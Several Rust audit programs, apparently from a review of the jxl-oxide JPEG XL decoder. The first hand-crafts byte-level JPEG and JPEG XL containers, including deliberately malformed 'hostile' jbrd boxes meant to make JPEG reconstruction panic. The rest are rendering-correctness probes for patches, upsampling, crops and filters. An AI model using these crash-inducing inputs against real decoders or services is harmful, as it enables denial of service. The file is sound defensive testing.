    out.extend_from_slice(&(WIDTH as u16).to_be_bytes());
    out.push(3);
    out.extend_from_slice(&[1, 0x11, 0]);
    out.extend_from_slice(&[2, 0x11, 1]);
    out.extend_from_slice(&[3, 0x11, 1]);

    // DHT: DC table 0 and AC table 0 in a single segment
    out.extend_from_slice(&[0xff, 0xc4]);
    let len = 2 + (17 + dc_syms.len()) + (17 + ac_syms.len());
    out.extend_from_slice(&(len as u16).to_be_bytes());
    out.push(0x00);
    let mut counts = [0u8; 16];
    counts[3] = dc_syms.len() as u8;
    out.extend_from_slice(&counts);
    out.extend_from_slice(&dc_syms);
    out.push(0x10);
    let mut counts = [0u8; 16];
    counts[7] = ac_syms.len() as u8;
    out.extend_from_slice(&counts);
    out.extend_from_slice(&ac_syms);

    // Scan 1: Y, no restart markers (DRI not seen yet)
    write_scan(&mut out, 0, coeffs, None, &dc_syms, &ac_syms);

    // DRI
    out.extend_from_slice(&[0xff, 0xdd, 0x00, 0x04]);
    out.extend_from_slice(&RESTART_INTERVAL.to_be_bytes());

    // Scan 2, 3: Cb, Cr with restart markers
    write_scan(&mut out, 1, coeffs, Some(RESTART_INTERVAL), &dc_syms, &ac_syms);
    write_scan(&mut out, 2, coeffs, Some(RESTART_INTERVAL), &dc_syms, &ac_syms);

    // EOI
    out.extend_from_slice(&[0xff, 0xd9]);
    out
}

// ---------------------------------------------------------------------------------------------
// JPEG XL bit writer (LSB first) and entropy-coded stream helpers
// ---------------------------------------------------------------------------------------------

struct Bw {
    bytes: Vec<u8>,
    nbits: usize,
}

impl Bw {
    fn new() -> Self {
        Self {
            bytes: Vec::new(),
            nbits: 0,
        }
    }

    fn bits(&mut self, value: u64, n: usize) {
        for i in 0..n {
            let bit = ((value >> i) & 1) as u8;
            if self.nbits % 8 == 0 {
                self.bytes.push(0);
            }
            *self.bytes.last_mut().unwrap() |= bit << (self.nbits % 8);
            self.nbits += 1;
        }
    }

    fn bool(&mut self, b: bool) {
        self.bits(b as u64, 1);
    }

    fn pad(&mut self) {
        while self.nbits % 8 != 0 {
            self.bits(0, 1);
        }
    }

    fn append_bytes(&mut self, bytes: &[u8]) {
        assert_eq!(self.nbits % 8, 0);
        self.bytes.extend_from_slice(bytes);
        self.nbits += bytes.len() * 8;
    }
}

/// Entropy code spec: no LZ77, single cluster, prefix code with a flat 32-symbol alphabet
/// (5 bits/token), hybrid integer config (split_exponent 0, msb 0, lsb 0).
fn write_flat_code_spec(bw: &mut Bw, num_dist: u32) {
    bw.bool(false); // lz77
    if num_dist > 1 {
        bw.bool(true); // simple cluster map
        bw.bits(0, 2); // 0 bits per entry
    }
    bw.bool(true); // use prefix code
    bw.bits(0, 4); // split_exponent = 0
    bw.bool(true); // alphabet size > 1
    bw.bits(4, 4); // n = 4
    bw.bits(15, 4); // 1 + 16 + 15 = 32
    // prefix code histogram: complex code, hskip = 0
    bw.bits(0, 2);
    // code length code lengths in order [1,2,3,4,0,5,17,6,16,7,8,...]; only "5" is non-zero.
    for pos in 0..18 {
        if pos == 5 {
            bw.bits(1, 2); // selector 1 => length 4 (any non-zero value works)
        } else {
            bw.bits(0, 2);
        }
    }
    // Code lengths of 32 symbols are read with a single-symbol code => zero bits.
}

/// Entropy code spec where every token is zero (alphabet size 1).
fn write_zero_code_spec(bw: &mut Bw, num_dist: u32) {
    bw.bool(false); // lz77
    if num_dist > 1 {
        bw.bool(true);
        bw.bits(0, 2);
    }
    bw.bool(true); // use prefix code
    bw.bits(0, 4); // split_exponent = 0
    bw.bool(false); // alphabet size 1
}

fn write_uint(bw: &mut Bw, v: u32) {
    let token = if v == 0 { 0 } else { 32 - v.leading_zeros() };
    // flat canonical code: code == symbol, MSB first
    let rev = (token as u8).reverse_bits() >> 3;
    bw.bits(rev as u64, 5);
    if v > 0 {
        let n = token - 1;
        bw.bits((v - (1 << n)) as u64, n as usize);
    }
}

fn pack_signed(v: i32) -> u32 {
    if v >= 0 {
        (v as u32) * 2
    } else {
        (-v) as u32 * 2 - 1
    }
}

fn write_modular_header(bw: &mut Bw) {
    bw.bool(true); // use_global_tree
    bw.bool(true); // default wp
    bw.bits(0, 2); // nb_transforms = 0
}

// ---------------------------------------------------------------------------------------------
// JPEG XL codestream
// ---------------------------------------------------------------------------------------------

fn write_codestream(coeffs: &Coeffs) -> Vec<u8> {
    let zz = zigzag();
    let qt = make_quant_tables();

    let mut bw = Bw::new();
    // Signature
    bw.bits(0xff, 8);
    bw.bits(0x0a, 8);
    // SizeHeader
    bw.bool(true); // div8
    bw.bits((HEIGHT / 8 - 1) as u64, 5);
    bw.bits(0, 3); // ratio
    bw.bits((WIDTH / 8 - 1) as u64, 5);
    // ImageMetadata
    bw.bool(false); // all_default
    bw.bool(false); // extra_fields
    bw.bool(false); // bit_depth: integer
    bw.bits(0, 2); // 8 bits
    bw.bool(true); // modular_16bit_buffers
    bw.bits(0, 2); // num_extra = 0
    bw.bool(false); // xyb_encoded
    bw.bool(true); // colour_encoding all_default
    bw.bits(0, 2); // extensions
    bw.bool(true); // default_m
    bw.pad();

    // FrameHeader
    bw.bool(false); // all_default
    bw.bits(0, 2); // RegularFrame
    bw.bits(0, 1); // VarDCT
    bw.bits(2, 2); // flags: U64 selector 2
    bw.bits(0x80 - 17, 8); // skip_adaptive_lf_smoothing
    bw.bool(true); // do_ycbcr
    bw.bits(0, 6); // jpeg_upsampling
    bw.bits(0, 2); // upsampling = 1
    bw.bits(0, 2); // num_passes = 1
    bw.bool(false); // have_crop
    bw.bits(0, 2); // blend mode Replace
    bw.bool(true); // is_last
    bw.bits(0, 2); // name length 0
    bw.bool(false); // restoration filter all_default
    bw.bool(false); // gab disabled
    bw.bits(0, 2); // epf iters 0
    bw.bits(0, 2); // rf extensions
    bw.bits(0, 2); // extensions

    // TOC goes here; build the section first.
    let mut sec = Bw::new();

    // --- LfGlobal
    sec.bool(true); // lf_dequant all_default
    sec.bits(0, 2); // global_scale selector 0
    sec.bits(0, 11); // global_scale = 1
    sec.bits(0, 2); // quant_lf = 16
    sec.bool(true); // default HfBlockContext
    sec.bool(false); // lf_chan_corr not default
    sec.bits(0, 2); // colour_factor = 84
    sec.bits(0, 16); // base_correlation_x = 0.0
    sec.bits(0, 16); // base_correlation_b = 0.0
    sec.bits(128, 8); // x_factor_lf
    sec.bits(128, 8); // b_factor_lf
    // Global modular: global MA tree
    sec.bool(true);
    write_zero_code_spec(&mut sec, 6); // tree: single leaf, Zero predictor, offset 0, multiplier 1
    write_flat_code_spec(&mut sec, 1);

    // --- LfGroup: LfCoeff
    sec.bits(0, 2); // extra_precision
    write_modular_header(&mut sec);
    for c in 0..3 {
        // channel order: Y, Cb, Cr
        for b in 0..NUM_BLOCKS {
            write_uint(&mut sec, pack_signed(coeffs[c][b][0] as i32));
        }
    }
    // --- LfGroup: HfMetadata
    sec.bits((NUM_BLOCKS - 1) as u64, NUM_BLOCKS.next_power_of_two().trailing_zeros() as usize);
    write_modular_header(&mut sec);
    let num_samples = 1 + 1 + NUM_BLOCKS * 2 + NUM_BLOCKS;
    for _ in 0..num_samples {
        write_uint(&mut sec, 0);
    }

    // --- HfGlobal: dequant matrices
    sec.bool(false); // not all default
    sec.bits(7, 3); // RAW
    sec.bits(0x1004, 16); // denominator ~= 1 / 2040
    write_modular_header(&mut sec);
    for table in [1usize, 0, 1] {
        // channel order: Cb, Y, Cr; matrix is transposed
        let mut m = [0u8; 64];
        for (k, &(row, col)) in zz.iter().enumerate() {
            m[col * 8 + row] = qt[table][k];
        }
        for v in m {
            write_uint(&mut sec, pack_signed(v as i32));
        }
    }
    for _ in 1..17 {
        sec.bits(0, 3); // default
    }
    // num_hf_presets: 0 bits
    // HfPass
    sec.bits(2, 2); // used_orders = 0
    write_flat_code_spec(&mut sec, 495 * 15);

    // --- PassGroup: HF coefficients
    // JPEG zigzag index -> JPEG XL coding index (DCT8 coefficients are stored transposed)
    let mut transposed = [0usize; 64];
    for (k, &(row, col)) in zz.iter().enumerate() {
        transposed[k] = zz.iter().position(|&rc| rc == (col, row)).unwrap();
    }
    for b in 0..NUM_BLOCKS {
        for c in 0..3 {
            let block = &coeffs[c][b];
            let mut coded = [0i16; 64];
            for k in 1..64 {
                coded[transposed[k]] = block[k];
            }
            let mut non_zeros = coded[1..].iter().filter(|&&v| v != 0).count();
            write_uint(&mut sec, non_zeros as u32);
            for &v in &coded[1..] {
                if non_zeros == 0 {
                    break;
                }
                write_uint(&mut sec, pack_signed(v as i32));
                if v != 0 {
                    non_zeros -= 1;
                }
            }
        }
    }
    sec.pad();

    // TOC
    bw.bool(false); // not permuted
    bw.pad();
    assert!(sec.bytes.len() < 1024);
    bw.bits(0, 2);
    bw.bits(sec.bytes.len() as u64, 10);
    bw.pad();
    bw.append_bytes(&sec.bytes);
    bw.bytes
}

// ---------------------------------------------------------------------------------------------
// jbrd box
// ---------------------------------------------------------------------------------------------

fn write_huffman_code(bw: &mut Bw, is_ac: bool, id: u8, is_last: bool, len: usize, syms: &[u8]) {
    bw.bool(is_ac);
    bw.bits(id as u64, 2);
    bw.bool(is_last);
    for l in 0..17 {
        if l == len {
            // real symbols + sentinel
            bw.bits(3, 2);
            bw.bits(syms.len() as u64 + 1, 8);
        } else {
            bw.bits(0, 2);
        }
    }
    let mut write_value = |v: u32| {
        if v < 4 {
            bw.bits(0, 2);
            bw.bits(v as u64, 2);
        } else if v < 8 {
            bw.bits(1, 2);
            bw.bits(v as u64 - 4, 2);
        } else if v < 24 {
            bw.bits(2, 2);
            bw.bits(v as u64 - 8, 4);
        } else {
            bw.bits(3, 2);
            bw.bits(v as u64 - 1, 8);
        }
    };
    for &s in syms {
        write_value(s as u32);
    }
    write_value(256);
}

fn write_jbrd(mode: u32) -> Vec<u8> {
    let hostile = mode == 1;
    let mut bw = Bw::new();
    bw.bool(false); // is_gray
    let sof = if hostile { 0xc2u8 } else { 0xc0 }; // SOF2 = progressive
    if mode == 5 {
        bw.bits((0xe0u8 - 0xc0) as u64, 6); // APP0
    }
    for marker in [0xdbu8, sof, 0xc4, 0xda, 0xdd, 0xda, 0xda, 0xd9] {
        bw.bits((marker - 0xc0) as u64, 6);
    }
    if mode == 5 {
        // one APP marker record: type = 4 + u(2) = 4 (undefined), length = 1 + 15
        bw.bits(3, 2);
        bw.bits(0, 2);
        bw.bits(15, 16);
    }
    // no COM
    // quant tables
    bw.bits(1, 2); // 2 tables
    bw.bits(0, 1); // precision
    bw.bits(0, 2); // index
    bw.bool(false); // is_last
    bw.bits(0, 1);
    bw.bits(1, 2);
    bw.bool(mode != 4);
    // components: YCbCr with ids 1, 2, 3
    if mode == 2 {
        bw.bits(3, 2); // explicit component ids
        bw.bits(3, 2); // 4 components
        for id in [1u64, 2, 3, 4] { bw.bits(id, 8); }
        bw.bits(0, 2);
        bw.bits(1, 2);
        bw.bits(1, 2);
        bw.bits(1, 2);
    } else {
    bw.bits(1, 2);
    bw.bits(0, 2);
    bw.bits(1, 2);
    bw.bits(1, 2);
    }
    // huffman codes
    bw.bits(1, 2); // num_huff = 2 + u(3)
    bw.bits(0, 3);
    write_huffman_code(&mut bw, false, 0, false, 4, &dc_symbols());
    write_huffman_code(&mut bw, true, 0, mode != 3, 8, &ac_symbols());
    // scan info
    for c in 0..3u64 {
        bw.bits(0, 2); // 1 component
        bw.bits(if hostile && c == 0 { 5 } else { 0 }, 6); // ss
        bw.bits(if hostile && c == 0 { 0 } else { 63 }, 6); // se
        bw.bits(0, 4); // al
        bw.bits(0, 4); // ah
        bw.bits(if mode == 2 && c == 0 { 3 } else { c }, 2); // comp_idx
        bw.bits(0, 2); // ac table
        bw.bits(0, 2); // dc table
        bw.bits(0, 2); // last_needed_pass
    }
    // restart interval
    bw.bits(RESTART_INTERVAL as u64, 16);
    // scan more info
    for _ in 0..3 {
        bw.bits(0, 2); // no reset points
        bw.bits(0, 2); // no extra zero runs
    }
    // no intermarker data
    bw.bits(0, 2); // tail data length 0
    bw.bool(false); // no padding bits
    bw.pad();
    // Brotli stream with empty output
    bw.append_bytes(&[0x06]);
    bw.bytes
}

fn make_box(ty: &[u8; 4], payload: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    out.extend_from_slice(&((payload.len() + 8) as u32).to_be_bytes());
    out.extend_from_slice(ty);
    out.extend_from_slice(payload);
    out
}

fn write_container(coeffs: &Coeffs, hostile: u32) -> Vec<u8> {
    let mut out = Vec::new();
    out.extend_from_slice(&[0, 0, 0, 0x0c, b'J', b'X', b'L', b' ', 0x0d, 0x0a, 0x87, 0x0a]);
    out.extend_from_slice(&make_box(b"ftyp", b"jxl \0\0\0\0jxl "));
    out.extend_from_slice(&make_box(b"jbrd", &write_jbrd(hostile)));
    out.extend_from_slice(&make_box(b"jxlc", &write_codestream(coeffs)));
    out
}

fn main() {
    // D10: a progressive scan whose spectral selection start exceeds its end (ss = 5, se = 0) in the jbrd scan info.
    let coeffs = make_coeffs();
    let expected = write_jpeg(&coeffs);
    // sanity: the benign container reconstructs byte-exactly
    let good = write_container(&coeffs, 0);
    let image = JxlImage::builder().read(std::io::Cursor::new(&good)).expect("load");
    let mut actual = Vec::new();
    image.reconstruct_jpeg(&mut actual).expect("benign reconstruction");
    assert_eq!(actual, expected, "benign container must reconstruct exactly");
    println!("benign container: reconstructed {} bytes, identical to the original", actual.len());

    let mut panics = 0;
    for mode in [5u32] {
    let bad = write_container(&coeffs, mode);
    let r = std::panic::catch_unwind(|| {
        let image = match JxlImage::builder().read(std::io::Cursor::new(&bad)) {
            Ok(i) => i,
            Err(e) => return format!("read() returned an error: {e}"),
        };
        let status = image.jpeg_reconstruction_status();
        let mut out = Vec::new();
        match image.reconstruct_jpeg(&mut out) {
            Ok(()) => format!("status {status:?}; reconstruct_jpeg returned Ok ({} bytes)", out.len()),
            Err(e) => format!("status {status:?}; reconstruct_jpeg returned an error: {e}"),
        }
    });
    match r {
        Ok(s) => { println!("hostile container (mode {mode}): {s}"); }
        Err(_) => { println!("hostile container (mode {mode}): JxlImage::reconstruct_jpeg PANICKED"); panics += 1; }
    }
    }
    std::process::exit(if panics > 0 { 1 } else { 0 });
}

use audit_e::*;
fn main() {
    let img = ImageSpec::rgb(16, 16);
    let mut out = vec![];
    for ups in [1u32, 2] {
        let mut f = FrameSpec::new(&img);
        f.upsampling = ups;
        f.flags = 1; // noise
        f.fill(&img, |_, _, _| 100);
        let bytes = encode_image(&img, &[f]);
        let image = open(&bytes);
        let p = render_planar(&image, 0);
        let (w, _, b) = &p[1];
        let row: Vec<i32> = (0..16).map(|x| (b[3 * w + x] * 2550.0).round() as i32).collect();
        println!("upsampling={ups}: channel 1 row 3 (x10): {row:?}");
        out.push(p);
    }
    let same = out[0].iter().zip(&out[1]).all(|(a, b)| a.2.iter().zip(&b.2).all(|(x, y)| (x - y).abs() < 1e-4));
    println!("constant frame + noise renders identically with upsampling 1 and 2: {same}");
}

use audit_e::*;
fn main() {
    let img = ImageSpec::rgb(16, 16);
    let mut r = FrameSpec::new(&img);
    r.frame_type = 2; r.is_last = false; r.save_as_reference = 1; r.save_before_ct = true;
    r.crop = Some((0, 0, 8, 8));
    r.fill(&img, |_, x, y| (100 + 10 * y + x) as i32);
    for (tx, ty) in [(2, 2), (10, 10)] {
        let mut f = FrameSpec::new(&img);
        f.upsampling = 2;
        f.flags = 2;
        f.patches.push(PatchSpec { ref_idx: 1, x0: 0, y0: 0, width: 4, height: 4, targets: vec![(tx, ty, vec![1])] });
        f.fill(&img, |_, _, _| 20);
        let bytes = encode_image(&img, &[r.clone(), f]);
        std::fs::write(format!("/tmp/audit_scratch_E/t13_{tx}.jxl"), &bytes).unwrap();
        let res = std::panic::catch_unwind(|| {
            let image = open(&bytes);
            render_planar(&image, 0)
        });
        match res {
            Ok(p) => dump(&format!("2x upsampled frame (constant 20) with 4x4 Replace patch at ({tx},{ty}); expected the 4x4 block 100..133 at that position"), &p[..1]),
            Err(_) => println!("patch at ({tx},{ty}): PANIC"),
        }
    }
}

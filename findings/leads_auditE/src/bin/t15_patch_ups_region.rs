use audit_e::*;

fn main() {
    let img = ImageSpec::rgb(64, 64);
    let mut r = FrameSpec::new(&img);
    r.frame_type = 2; r.is_last = false; r.save_as_reference = 1; r.save_before_ct = true;
    r.crop = Some((0, 0, 8, 8));
    r.fill(&img, |_, _, _| 200);
    let mut f = FrameSpec::new(&img);
    f.upsampling = 2;
    f.gab = true;
    f.flags = 2;
    // patch target is given in the frame's coded (pre-upsampling) coordinates: (20,20) -> pixels 40..48
    f.patches.push(PatchSpec { ref_idx: 1, x0: 0, y0: 0, width: 4, height: 4, targets: vec![(20, 20, vec![1])] });
    f.fill(&img, |_, _, _| 20);
    let bytes = encode_image(&img, &[r, f]);
    std::fs::write("/tmp/audit_scratch_E/t15.jxl", &bytes).unwrap();
    let image = open(&bytes);
    let full = render_planar(&image, 0);
    let (fw, _, fb) = &full[0];
    let row = |y: usize| (36..52).map(|x| to_u8(fb[y * fw + x])).collect::<Vec<i32>>();
    println!("full render  row 44, x=36..52: {:?}", row(44));
    let mut image = open(&bytes);
    image.set_image_region(CropInfo { left: 36, top: 40, width: 16, height: 8 });
    let part = render_planar(&image, 0);
    let (pw, _, pb) = &part[0];
    println!("region render row 44, x=36..52: {:?}", (0..16).map(|x| to_u8(pb[4 * pw + x])).collect::<Vec<i32>>());
}

use audit_e::*;
use jxl_oxide::{InitializeResult, JxlImage};

fn main() {
    let img = ImageSpec::rgb(4, 2);
    let mut l0 = FrameSpec::new(&img);
    l0.is_last = false; l0.save_as_reference = 1;
    l0.fill(&img, |_, _, _| 10);
    let mut l1 = FrameSpec::new(&img);
    l1.is_last = false; l1.save_as_reference = 1;
    l1.blend = BlendSpec { mode: 1, source: 1, ..Default::default() };
    l1.fill(&img, |_, _, _| 100);
    let mut p = FrameSpec::new(&img);
    p.frame_type = 2; p.is_last = false; p.save_as_reference = 2; p.save_before_ct = true;
    p.fill(&img, |_, _, _| 3);
    let mut l2 = FrameSpec::new(&img);
    l2.blend = BlendSpec { mode: 1, source: 1, ..Default::default() };
    l2.fill(&img, |_, _, _| 1);

    let head = { let mut w = BitWriter::new(); write_image_header(&mut w, &img); w.finish() };
    let b0 = encode_frame(&img, &l0);
    let b1 = encode_frame(&img, &l1);
    let bp = encode_frame(&img, &p);
    let b2 = encode_frame(&img, &l2);
    let mut all = head.clone();
    all.extend(&b0); all.extend(&b1);
    let cut = all.len() + bp.len() - 4; // P header + TOC loaded, P data incomplete
    all.extend(&bp); all.extend(&b2);

    let mut uninit = JxlImage::builder().pool(jxl_oxide::JxlThreadPool::none()).build_uninit();
    uninit.feed_bytes(&all[..cut]).unwrap();
    let mut image = match uninit.try_init().unwrap() {
        InitializeResult::Initialized(i) => i,
        _ => panic!("need more data"),
    };
    println!("loaded frames={} keyframes={}", image.num_loaded_frames(), image.num_loaded_keyframes());
    let r = image.render_loading_frame().expect("render_loading_frame");
    let planes: Vec<_> = r.image_planar().into_iter().map(|fb| (fb.width(), fb.height(), fb.buf().to_vec())).collect();
    dump("render_loading_frame while ReferenceOnly frame P is loading (expected L0+L1 = 110)", &planes[..1]);
    image.feed_bytes(&all[cut..]).unwrap();
    image.finalize().unwrap();
    dump("final render after everything is loaded (expected 111)", &render_planar(&image, 0)[..1]);
}

//! usage: region_diff file.jxl keyframe left top width height
use audit_e::*;
fn main() {
    let a: Vec<String> = std::env::args().collect();
    let bytes = std::fs::read(&a[1]).unwrap();
    let k: usize = a[2].parse().unwrap();
    let (l, t, w, h): (usize, usize, usize, usize) = (a[3].parse().unwrap(), a[4].parse().unwrap(), a[5].parse().unwrap(), a[6].parse().unwrap());
    let image = open(&bytes);
    let full = render_planar(&image, k);
    let mut image = open(&bytes);
    image.set_image_region(CropInfo { left: l as u32, top: t as u32, width: w as u32, height: h as u32 });
    let part = render_planar(&image, k);
    for c in 0..full.len() {
        let (fw, _, fb) = &full[c];
        let (pw, ph, pb) = &part[c];
        let mut nd = 0;
        println!("channel {c}: region render {pw}x{ph}");
        for y in 0..*ph {
            let mut line = String::new();
            for x in 0..*pw {
                let f = fb[(t + y) * fw + l + x]; let p = pb[y * pw + x];
                if (f - p).abs() > 1e-5 { nd += 1; line += "X"; } else { line += "."; }
            }
            println!("  {line}");
        }
        println!("  diffs: {nd}");
    }
}

use audit_e::*;
fn main() {
    for (w, h) in [(1u32, 1u32), (1, 2), (1, 5), (2, 1), (5, 1), (9, 1), (2, 2), (3, 3), (9, 2)] {
        for (gab, epf) in [(true, 0u32), (false, 1), (false, 3)] {
            let img = ImageSpec::rgb(w, h);
            let mut f = FrameSpec::new(&img);
            f.gab = gab; f.epf_iters = epf;
            f.fill(&img, |_, _, _| 100);
            let bytes = encode_image(&img, &[f]);
            let r = std::panic::catch_unwind(|| { let image = open(&bytes); render_planar(&image, 0) });
            match r {
                Ok(p) => { let v: Vec<i32> = p[0].2.iter().map(|v| to_u8(*v)).collect(); if v.iter().any(|&x| x != 100) { println!("{w}x{h} gab={gab} epf={epf}: constant 100 -> {:?}", &v[..v.len().min(10)]); } }
                Err(_) => println!("{w}x{h} gab={gab} epf={epf}: PANIC"),
            }
        }
    }
    println!("done");
}

use audit_e::*;
fn main() {
    // (a) single-row frame with gab, constant colour
    let img = ImageSpec::rgb(8, 1);
    let mut f = FrameSpec::new(&img);
    f.gab = true;
    f.fill(&img, |_, _, _| 100);
    let bytes = encode_image(&img, &[f]);
    dump("8x1 constant 100 with gaborish (expected 100)", &render_planar(&open(&bytes), 0)[..1]);
    let img = ImageSpec::rgb(8, 2);
    let mut f = FrameSpec::new(&img);
    f.gab = true;
    f.fill(&img, |_, _, _| 100);
    let bytes = encode_image(&img, &[f]);
    dump("8x2 constant 100 with gaborish", &render_planar(&open(&bytes), 0)[..1]);

    // (b) region test
    for (crop, name) in [(None, "t11_full.jxl"), (Some((7, -5, 15u32, 12u32)), "t11_crop.jxl")] {
        let img = ImageSpec::rgb(28, 19);
        let mut f = FrameSpec::new(&img);
        f.gab = true;
        f.crop = crop;
        f.blend.mode = 1;
        f.fill(&img, |c, x, y| ((x * 7 + y * 13 + c as u32 * 31) % 97) as i32 * 2);
        let bytes = encode_image(&img, &[f]);
        std::fs::write(format!("/tmp/audit_scratch_E/{name}"), &bytes).unwrap();
    }
}

use audit_e::*;

fn main() {
    let img = ImageSpec::rgb(8, 4);
    let mut f = FrameSpec::new(&img);
    f.fill(&img, |c, x, y| (c as i32) * 50 + (y * 8 + x) as i32);
    let bytes = encode_image(&img, &[f]);
    std::fs::write("/tmp/audit_scratch_E/t01.jxl", &bytes).unwrap();
    let image = open(&bytes);
    println!("frames={} keyframes={}", image.num_loaded_frames(), image.num_loaded_keyframes());
    let p = render_planar(&image, 0);
    dump("single frame", &p);
}

use audit_e::*;
fn main() {
    let a: Vec<String> = std::env::args().collect();
    let bytes = std::fs::read(&a[1]).unwrap();
    let image = jxl_oxide::JxlImage::builder().pool(jxl_oxide::JxlThreadPool::none()).read(&bytes[..]).unwrap();
    let h = image.image_header();
    println!("size {}x{} xyb={} bit_depth={:?} 16bit={} ec={:?}", h.size.width, h.size.height, h.metadata.xyb_encoded, h.metadata.bit_depth, h.metadata.modular_16bit_buffers, h.metadata.ec_info.iter().map(|e| (e.ty, e.dim_shift, e.bit_depth)).collect::<Vec<_>>());
    println!("colour {:?}", h.metadata.colour_encoding);
    for i in 0..image.num_loaded_frames() {
        let f = image.frame(i).unwrap();
        let fh = f.header();
        println!("frame {i}: type={:?} enc={:?} flags={:?} ups={} ec_ups={:?} crop={} ({},{}) {}x{} blend={:?} ec_blend={:?} dur={} last={} save={} sbc={} gab={} epf={} gss={} passes={}",
            fh.frame_type, fh.encoding, fh.flags, fh.upsampling, fh.ec_upsampling, fh.have_crop, fh.x0, fh.y0, fh.width, fh.height, fh.blending_info, fh.ec_blending_info, fh.duration, fh.is_last, fh.save_as_reference, fh.save_before_ct, fh.restoration_filter.gab.enabled(), fh.restoration_filter.epf.enabled(), fh.group_size_shift, fh.passes.num_passes);
    }
}

use audit_e::*;
use jxl_oxide::{InitializeResult, JxlImage};

fn main() {
    let img = ImageSpec::rgb(256, 128);
    let mut y = FrameSpec::new(&img);
    y.group_size_shift = 0; y.is_last = false; y.save_as_reference = 1; y.save_before_ct = true;
    y.fill(&img, |c, x, yy| ((x / 2 + yy / 4 + 40 * c as u32) % 200 + 20) as i32);
    let mut x = FrameSpec::new(&img);
    x.group_size_shift = 0; x.frame_type = 2; x.is_last = false; x.save_as_reference = 2; x.save_before_ct = true;
    x.flags = 2;
    x.patches.push(PatchSpec { ref_idx: 1, x0: 10, y0: 10, width: 8, height: 4, targets: vec![(20, 20, vec![1])] });
    x.fill(&img, |_, _, _| 3);
    let mut z = FrameSpec::new(&img);
    z.group_size_shift = 0; z.flags = 2;
    z.patches.push(PatchSpec { ref_idx: 2, x0: 20, y0: 20, width: 8, height: 4, targets: vec![(200, 50, vec![1])] });
    z.fill(&img, |_, _, _| 7);

    let head = { let mut w = BitWriter::new(); write_image_header(&mut w, &img); w.finish() };
    let mut rest = Vec::new();
    for f in [&y, &x, &z] { rest.extend(encode_frame(&img, f)); }

    let show = |image: &JxlImage, label: &str| {
        let p = render_planar(image, 0);
        let (w, _, buf) = &p[0];
        println!("{label}");
        for yy in 50..52 {
            let row: Vec<i32> = (198..210).map(|xx| to_u8(buf[yy * w + xx])).collect();
            println!("  y={yy}: {row:?}");
        }
    };

    // A: plain: load everything, render full.
    let mut all = head.clone(); all.extend(&rest);
    let image = open(&all);
    show(&image, "A) load all, render full image (reference result):");

    for (name, threads) in [("none", 0usize), ("rayon(4)", 4)] {
      for iter in 0..3 {
        let pool = if threads == 0 { jxl_oxide::JxlThreadPool::none() } else { jxl_oxide::JxlThreadPool::rayon(Some(threads)) };
        let mut uninit = JxlImage::builder().pool(pool).build_uninit();
        uninit.feed_bytes(&head).unwrap();
        let mut image = match uninit.try_init().unwrap() { InitializeResult::Initialized(i) => i, _ => panic!() };
        image.set_image_region(CropInfo { left: 198, top: 49, width: 12, height: 6 });
        image.feed_bytes(&rest).unwrap();
        image.finalize().unwrap();
        image.set_image_region(CropInfo { left: 0, top: 0, width: 256, height: 128 });
        show(&image, &format!("B) pool={name} iter={iter}: set small region, feed frames, set full region, render full image:"));
      }
    }
}

use audit_e::*;
use jxl_oxide::{EnumColourEncoding, RenderingIntent};

fn build() -> Vec<u8> {
    let mut img = ImageSpec::rgb(4, 1);
    img.animation = true;
    img.xyb = true;
    let mk = |last: bool| {
        let mut f = FrameSpec::new(&img);
        f.duration = 1;
        f.is_last = last;
        f.fill(&img, |c, x, _| if c == 0 { 60 + 60 * x as i32 } else { 0 });
        f
    };
    encode_image(&img, &[mk(false), mk(true)])
}

fn main() {
    let bytes = build();
    let mut image = open(&bytes);
    dump("keyframe 0, default (sRGB) output", &render_planar(&image, 0)[..1]);
    dump("keyframe 1, default (sRGB) output", &render_planar(&image, 1)[..1]);
    image.request_color_encoding(EnumColourEncoding::srgb_linear(RenderingIntent::Relative));
    dump("keyframe 0, requested linear sRGB", &render_planar(&image, 0)[..1]);
    dump("keyframe 1, requested linear sRGB", &render_planar(&image, 1)[..1]);
}

use audit_e::*;
use jxl_oxide::{EnumColourEncoding, RenderingIntent};

fn build(ycbcr: bool) -> Vec<u8> {
    let mut img = ImageSpec::rgb(4, 1);
    img.animation = true;
    let mk = |last: bool| {
        let mut f = FrameSpec::new(&img);
        f.do_ycbcr = ycbcr;
        f.duration = 1;
        f.is_last = last;
        // Cb, Y, Cr = 0, y, 0 -> grey ramp (Y stored with -128 offset in JPEG-style ycbcr)
        f.fill(&img, |c, x, _| if ycbcr { if c == 1 { x as i32 * 30 - 60 } else { 0 } } else { 68 + x as i32 * 30 });
        f
    };
    encode_image(&img, &[mk(false), mk(true)])
}

fn main() {
    for ycbcr in [false, true] {
        let bytes = build(ycbcr);
        let mut image = open(&bytes);
        println!("### do_ycbcr = {ycbcr}; two keyframes with identical samples");
        dump("keyframe 0, default (sRGB) output", &render_planar(&image, 0)[..1]);
        dump("keyframe 1, default (sRGB) output", &render_planar(&image, 1)[..1]);
        image.request_color_encoding(EnumColourEncoding::srgb_linear(RenderingIntent::Relative));
        dump("keyframe 0, requested linear sRGB", &render_planar(&image, 0)[..1]);
        dump("keyframe 1, requested linear sRGB", &render_planar(&image, 1)[..1]);
    }
}

use audit_e::*;

fn build(with_patches: bool) -> Vec<u8> {
    let mut img = ImageSpec::rgb(64, 64);
    img.ec.push(EcSpec { ty: 1, dim_shift: 0, alpha_associated: false }); // depth channel
    let mut r = FrameSpec::new(&img);
    r.frame_type = 2; r.is_last = false; r.save_as_reference = 1; r.save_before_ct = true;
    r.crop = Some((0, 0, 8, 8));
    r.fill(&img, |_, _, _| 0);
    let mut f = FrameSpec::new(&img);
    f.upsampling = 2;           // colour coded at 32x32
    f.ec_upsampling = vec![4];  // extra channel coded at 16x16
    if with_patches {
        f.flags = 2;
        // mode 0 ("None") for every channel: the patch itself changes nothing
        f.patches.push(PatchSpec { ref_idx: 1, x0: 0, y0: 0, width: 2, height: 2, targets: vec![(0, 0, vec![0, 0])] });
    }
    f.fill(&img, |c, x, y| if c < 3 { 100 } else { (x * 16) as i32 }); // horizontal ramp in the extra channel
    encode_image(&img, &[r, f])
}

fn main() {
    for with_patches in [false, true] {
        let bytes = build(with_patches);
        std::fs::write(format!("/tmp/audit_scratch_E/t14_p{}.jxl", with_patches as u8), &bytes).unwrap();
        let image = open(&bytes);
        let full = render_planar(&image, 0);
        let (fw, _, fb) = &full[3];
        let want: Vec<i32> = (24..40).map(|x| to_u8(fb[30 * fw + x])).collect();
        println!("patches={with_patches}: full render, extra channel row 30, x=24..40: {want:?}");
